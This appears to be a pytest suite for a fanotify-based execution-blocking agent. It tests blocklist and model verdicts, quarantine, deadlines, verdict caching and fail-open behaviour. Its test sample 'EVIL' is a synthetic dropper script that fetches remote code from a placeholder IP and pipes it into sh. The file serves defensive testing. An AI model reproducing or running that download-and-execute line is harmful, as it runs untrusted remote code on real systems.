"""Execution control on a real fanotify mark of a test directory, with a real bundle."""

from __future__ import annotations

import datetime as dt
import errno
import hashlib
import os
import signal
import subprocess
import sys
import textwrap
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from agent.decision import DecisionContext, Mode, Reason, Verdict
from agent.model import LoadedModel, load_bundle
from agent.protect import fanotify as fan
from agent.protect.protector import ProtectConfig, Protector, ProtectReport, ReportKind
from agent.protect.quarantine import Quarantine
from agent.protect.scan import Scanner, ScanResult

pytestmark = pytest.mark.skipif(not fan.is_available()[0], reason=fan.is_available()[1])

ROOT = Path(__file__).resolve().parents[3]
NOW = dt.datetime(2026, 11, 1, 12, 0, tzinfo=dt.UTC)
EVIL = b"#!/bin/sh\n# synthetic dropper\ncurl -s http://203.0.113.9/x | sh\nexit 0\n"
BENIGN = b"#!/bin/sh\necho hello\nexit 0\n"


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    path.chmod(0o755)
    return path


def _exec(path: Path, timeout_s: float = 10.0) -> int:
    """Run the file; its exit code, or -errno when the exec itself was refused."""
    try:
        return subprocess.run(
            [str(path)], check=False, timeout=timeout_s, capture_output=True
        ).returncode
    except PermissionError as exc:
        return -exc.errno


@pytest.fixture(scope="module")
def model(bundles: dict[int, Path]) -> LoadedModel:
    return load_bundle(bundles[1])


class Harness:
    """A protector over tmp_path/protected whose decision context a test can change."""

    def __init__(self, tmp: Path, model: LoadedModel) -> None:
        self.dir = tmp / "protected"
        self.dir.mkdir()
        self.model = model
        self.ctx = DecisionContext(block_threshold=1.1, blocklist=frozenset({_sha(EVIL)}))
        self.reports: list[ProtectReport] = []
        self.got_report = threading.Event()
        self.delay_s = 0.0
        self.quarantine = Quarantine(tmp / "state" / "quarantine")
        self.protector: Protector | None = None

    def decide(self, path: str) -> ScanResult:
        if self.delay_s:
            time.sleep(self.delay_s)
        return Scanner(self.model, self.ctx).scan_file(path)

    def on_report(self, report: ProtectReport) -> None:
        self.reports.append(report)
        self.got_report.set()

    def start(self, **config: float | bool) -> Protector:
        self.protector = Protector(
            self.decide,
            mode=lambda: self.ctx.mode,
            clock=lambda: NOW,
            config=ProtectConfig(**config),  # type: ignore[arg-type]
            quarantine=self.quarantine,
            on_report=self.on_report,
        )
        self.protector.start([self.dir])
        return self.protector

    def wait_reports(self, n: int, timeout_s: float = 10.0) -> list[ProtectReport]:
        deadline = time.monotonic() + timeout_s
        while len(self.reports) < n:
            assert time.monotonic() < deadline, f"{len(self.reports)} reports, expected {n}"
            self.got_report.wait(0.05)
            self.got_report.clear()
        return self.reports


@pytest.fixture
def harness(tmp_path: Path, model: LoadedModel) -> Iterator[Harness]:
    h = Harness(tmp_path, model)
    yield h
    if h.protector is not None:
        h.protector.stop()


def test_blocklisted_sample_exec_fails_with_eperm_and_is_quarantined(harness: Harness) -> None:
    evil = _write(harness.dir / "dropper.sh", EVIL)
    benign = _write(harness.dir / "hello.sh", BENIGN)
    p = harness.start()
    assert _exec(evil) == -errno.EPERM
    assert _exec(benign) == 0
    reports = harness.wait_reports(2)
    by_path = {r.path: r for r in reports}
    denied = by_path[str(evil)]
    assert not denied.allowed and denied.result.decision is not None
    assert denied.result.decision.verdict is Verdict.BLOCKLISTED
    assert denied.quarantined is not None and denied.quarantined.sha256 == _sha(EVIL)
    assert not evil.exists()
    assert [r.original_path for r in harness.quarantine.list()] == [str(evil)]
    assert by_path[str(benign)].allowed
    assert p.stats.denied == 1 and p.stats.quarantined == 1


def test_model_block_verdict_denies_like_the_blocklist(harness: Harness) -> None:
    evil = _write(harness.dir / "tool.sh", EVIL)
    harness.ctx = DecisionContext(block_threshold=0.0)  # every scored file is a `block`
    harness.start()
    assert _exec(evil) == -errno.EPERM
    [report] = harness.wait_reports(1)
    assert report.result.decision is not None
    assert report.result.decision.verdict is Verdict.BLOCK
    assert report.result.decision.reason is Reason.SCORE_BLOCK


@pytest.mark.parametrize("mode", [Mode.DETECT_ONLY, Mode.OFF])
def test_detect_only_and_kill_switch_allow_the_sample_and_report_it(
    harness: Harness, mode: Mode
) -> None:
    evil = _write(harness.dir / "dropper.sh", EVIL)
    harness.ctx = DecisionContext(block_threshold=1.1, blocklist=frozenset({_sha(EVIL)}), mode=mode)
    p = harness.start()
    assert _exec(evil) == 0
    [report] = harness.wait_reports(1)
    assert report.allowed and report.path == str(evil)
    assert report.result.decision is not None
    expected = Verdict.DETECT if mode is Mode.DETECT_ONLY else Verdict.ALLOW
    assert report.result.decision.verdict is expected
    assert evil.exists() and p.stats.passthrough == 1 and p.stats.denied == 0


def test_slow_scorer_past_the_deadline_is_allowed_and_reported(harness: Harness) -> None:
    evil = _write(harness.dir / "dropper.sh", EVIL)
    harness.delay_s = 1.0
    p = harness.start(deadline_ms=100)
    started = time.monotonic()
    assert _exec(evil) == 0, "past the deadline the exec must go ahead"
    assert time.monotonic() - started < 0.9, "the exec waited for the scorer"
    [report] = harness.wait_reports(1)
    assert report.kind is ReportKind.DEADLINE and report.allowed
    assert (
        report.result.decision is not None and report.result.decision.verdict is Verdict.BLOCKLISTED
    )
    assert p.stats.deadline == 1 and evil.exists()


def test_cached_verdict_serves_repeat_execs_and_a_rewrite_drops_it(harness: Harness) -> None:
    script = _write(harness.dir / "job.sh", BENIGN)
    p = harness.start()
    assert _exec(script) == 0
    assert _exec(script) == 0
    assert p.stats.cache_hits == 1
    # same size, mtime put back: only the FAN_MODIFY/FAN_CLOSE_WRITE drop stops a stale allow
    before = script.stat()
    evil_same_size = (EVIL * 2)[: len(BENIGN)]
    harness.ctx = DecisionContext(block_threshold=1.1, blocklist=frozenset({_sha(evil_same_size)}))
    script.write_bytes(evil_same_size)
    os.utime(script, ns=(before.st_atime_ns, before.st_mtime_ns))
    deadline = time.monotonic() + 5
    while _exec(script) != -errno.EPERM:  # the modify event may trail the write by a moment
        assert time.monotonic() < deadline, "a rewritten file kept its cached allow"
        harness.quarantine.list()
    assert p.stats.denied == 1


def test_policy_change_invalidates_cached_verdicts(harness: Harness) -> None:
    script = _write(harness.dir / "tool.sh", BENIGN)
    # a deadline the first decision cannot miss on a loaded machine: a deadline allow comes
    # back before the decision is cached, and the second exec would then be decided afresh
    p = harness.start(deadline_ms=60_000)
    assert _exec(script) == 0
    assert p.stats.deadline == 0
    harness.ctx = DecisionContext(block_threshold=1.1, blocklist=frozenset({_sha(BENIGN)}))
    assert _exec(script) == 0, "the cached allow answers until the change is announced"
    assert p.stats.cache_hits == 1
    p.invalidate()
    assert _exec(script) == -errno.EPERM


def test_a_verdict_is_cached_before_the_kernel_is_answered(harness: Harness) -> None:
    script = _write(harness.dir / "tool.sh", BENIGN)
    p = harness.start(deadline_ms=60_000)
    respond = p._respond

    def slow_respond(fd: int, allow: bool) -> None:  # a worker descheduled after answering
        respond(fd, allow)
        time.sleep(0.5)

    p._respond = slow_respond  # type: ignore[method-assign]
    assert _exec(script) == 0
    harness.ctx = DecisionContext(block_threshold=1.1, blocklist=frozenset({_sha(BENIGN)}))
    assert _exec(script) == 0, "the exec the answer let happen found the verdict in the cache"
    assert p.stats.cache_hits == 1


def test_agent_never_blocks_its_own_opens(harness: Harness) -> None:
    f = harness.dir / "data.bin"
    f.write_bytes(b"payload")
    harness.ctx = DecisionContext(block_threshold=0.0)  # everything scored is blocked
    harness.quarantine = None  # type: ignore[assignment]
    p = harness.start(protect_open=True)
    assert f.read_bytes() == b"payload"  # this process: allowed at once
    assert p.stats.own >= 1
    out = subprocess.run(["cat", str(f)], capture_output=True, check=False)
    assert out.returncode != 0 and b"Operation not permitted" in out.stderr


def test_full_queue_overflows_to_allow(harness: Harness) -> None:
    scripts = [_write(harness.dir / f"s{i}.sh", BENIGN + bytes([65 + i])) for i in range(3)]
    harness.delay_s = 0.5
    p = harness.start(queue_size=1, deadline_ms=5000)
    threads = [threading.Thread(target=_exec, args=(s,)) for s in scripts]
    for t in threads:
        t.start()
    for t in threads:
        t.join(10)
    assert p.stats.overflow >= 1


_CHILD = textwrap.dedent(
    """
    import sys, time, datetime as dt
    from agent.decision import DecisionContext
    from agent.model import load_bundle
    from agent.protect.protector import ProtectConfig, Protector
    from agent.protect.scan import Scanner
    bundle, folder, sha, delay = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
    scanner = Scanner(load_bundle(bundle), DecisionContext(1.1, blocklist=frozenset({sha})))
    def decide(path):
        time.sleep(delay)
        return scanner.scan_file(path)
    p = Protector(decide, mode=lambda: __import__("agent.decision").decision.Mode.ENFORCE,
                  clock=lambda: dt.datetime.now(dt.UTC), config=ProtectConfig(deadline_ms=60000))
    p.start([folder])
    print("ready", flush=True)
    time.sleep(300)
    """
)


def _child(bundle: Path, folder: Path, delay_s: float) -> subprocess.Popen[str]:
    proc = subprocess.Popen(
        [sys.executable, "-c", _CHILD, str(bundle), str(folder), _sha(EVIL), str(delay_s)],
        stdout=subprocess.PIPE,
        text=True,
        cwd=ROOT,
    )
    assert proc.stdout is not None and proc.stdout.readline().strip() == "ready"
    return proc


def _kill(proc: subprocess.Popen[str]) -> None:
    proc.send_signal(signal.SIGKILL)
    assert proc.wait(10) == -signal.SIGKILL
    assert proc.stdout is not None
    proc.stdout.close()


def test_after_sigkill_of_the_agent_execs_are_no_longer_denied(tmp_path: Path, bundles) -> None:
    folder = tmp_path / "protected"
    folder.mkdir()
    evil = _write(folder / "dropper.sh", EVIL)
    proc = _child(bundles[1], folder, 0.0)
    try:
        assert _exec(evil) == -errno.EPERM
    finally:
        _kill(proc)
    assert _exec(evil) == 0


def test_sigkill_releases_an_exec_waiting_for_the_answer(tmp_path: Path, bundles) -> None:
    folder = tmp_path / "protected"
    folder.mkdir()
    evil = _write(folder / "dropper.sh", EVIL)
    proc = _child(bundles[1], folder, 120.0)  # decides far too slowly, deadline 60 s
    codes: list[int] = []
    t = threading.Thread(target=lambda: codes.append(_exec(evil, 60)))
    t.start()
    try:
        t.join(1.0)
        assert t.is_alive() and not codes, "the exec did not wait for the agent"
    finally:
        _kill(proc)
    t.join(10)
    assert codes == [0]


def test_reader_failure_fails_open_and_is_recorded(harness: Harness) -> None:
    evil = _write(harness.dir / "dropper.sh", EVIL)
    p = harness.start()

    def broken_mode() -> Mode:  # fault injection: the reader's own path raises
        raise RuntimeError("mode source broke")

    p.mode = broken_mode
    assert _exec(evil) == 0, "a dead reader must not hold the exec"
    assert p.failure == "RuntimeError: mode source broke" and p.stats.errors == 1
    assert _exec(evil) == 0 and evil.exists()


# watchdog 7 warns when `mkdir -p` outruns its own recursive watch (it re-adds the watch)
@pytest.mark.filterwarnings("ignore:Callback with id:RuntimeWarning")
def test_folder_created_after_start_is_protected_too(harness: Harness) -> None:
    p = harness.start()
    marks = p.stats.marks
    sub = harness.dir / "new" / "deeper"
    sub.mkdir(parents=True)
    deadline = time.monotonic() + 5
    while p.stats.marks < marks + 2:  # both new folders marked, as inotify reported them
        assert time.monotonic() < deadline, "new folders were not marked"
        time.sleep(0.01)
    evil = _write(sub / "dropper.sh", EVIL)
    assert _exec(evil) == -errno.EPERM


def _inotify_masks(inode: int) -> list[int]:
    """The kernel's inotify masks on `inode` held by this process (from /proc/self/fdinfo)."""
    masks = []
    for info in Path("/proc/self/fdinfo").iterdir():
        try:
            lines = info.read_text().splitlines()
        except OSError:  # the descriptor closed meanwhile
            continue
        for line in lines:
            if line.startswith("inotify ") and f" ino:{inode:x} " in line:
                field = next(f for f in line.split() if f.startswith("mask:"))
                masks.append(int(field.removeprefix("mask:"), 16))
    return masks


def test_new_folder_watch_is_not_woken_by_execs_or_reads(harness: Harness) -> None:
    """The inotify watch that finds new folders asks for folder events only: an exec (open,
    read, close of the file) must not wake a Python thread that competes with the reader."""
    harness.start()
    masks = _inotify_masks(harness.dir.stat().st_ino)
    assert masks, "no inotify watch on the protected folder"
    in_access, in_close_nowrite, in_open, in_create = 0x1, 0x10, 0x20, 0x100
    for mask in masks:
        assert mask & in_create
        assert not mask & (in_access | in_open | in_close_nowrite), hex(mask)
